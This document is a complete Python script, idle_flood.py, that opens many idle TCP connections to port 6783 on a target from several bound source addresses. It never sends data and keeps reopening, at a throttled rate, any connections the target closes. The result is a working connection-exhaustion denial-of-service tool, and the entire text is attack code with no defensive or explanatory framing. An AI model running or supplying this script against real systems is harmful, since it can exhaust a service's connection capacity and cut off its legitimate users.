# Opens COUNT connections to TARGET:6783 round-robin from the SOURCE addresses, never
# sends a byte, and for HOLD seconds reopens (at most 50 per 100 ms) those the router
# closed. Prints "opened N" once the first round is up, "reopened N" at the end.
# Usage: idle_flood.py TARGET COUNT HOLD SOURCE...
import socket, sys, time
target, count, hold = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
sources = sys.argv[4:]
def open_one(i):
    s = socket.socket()
    try:
        s.bind((sources[i % len(sources)], 0))
        s.settimeout(3)
        s.connect((target, 6783))
        s.setblocking(False)
        return s
    except OSError:
        s.close()
        return None
def closed(s):
    try:
        while True:
            if s.recv(65536) == b"":
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True
socks = [open_one(i) for i in range(count)]
print("opened", sum(s is not None for s in socks), flush=True)
end, reopened = time.time() + hold, 0
while time.time() < end:
    budget = 50
    for i, s in enumerate(socks):
        if budget == 0:
            break
        if s is None or closed(s):
            if s is not None:
                s.close()
            socks[i] = open_one(i)
            budget -= 1
            reopened += 1
    time.sleep(0.1)
print("reopened", reopened, flush=True)
